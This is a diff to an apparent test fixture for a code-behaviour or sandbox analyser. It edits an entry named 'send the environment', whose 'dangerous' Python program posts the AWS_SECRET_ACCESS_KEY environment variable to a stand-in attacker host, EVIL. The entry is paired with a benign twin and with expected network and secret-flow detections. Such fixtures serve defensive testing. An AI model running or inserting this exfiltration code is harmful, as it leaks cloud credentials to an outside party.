@@ -1,6 +1,6 @@
 import type { Act } from './act.js'
 import { EVIL } from './bash-acts.js'
-import { call, code, forever, list, member, name, program, set, type Given, type Program } from './program.js'
+import { call, code, forever, list, member, program, set, type Given, type Program } from './program.js'
 import { want } from './wanted.js'
 
 const NOTES = './build/notes.txt'
@@ -44,8 +44,8 @@ export const PYTHON_ACTS: readonly Act<Program>[] = [
   },
   {
     name: 'send the environment',
-    dangerous: post({ json: call('dict', [name('os.environ')]) }),
-    twin: program(call('print', [call('len', [name('os.sep')])])),
+    dangerous: post({ data: call('os.getenv', ['AWS_SECRET_ACCESS_KEY']) }),
+    twin: program(call('print', [call('os.getenv', ['LANG'])])),
     wanted: [
       want('network', { host: EVIL, upload: true }),
       want('flows', { source: ['environment', 'secret'], sink: 'network' }),
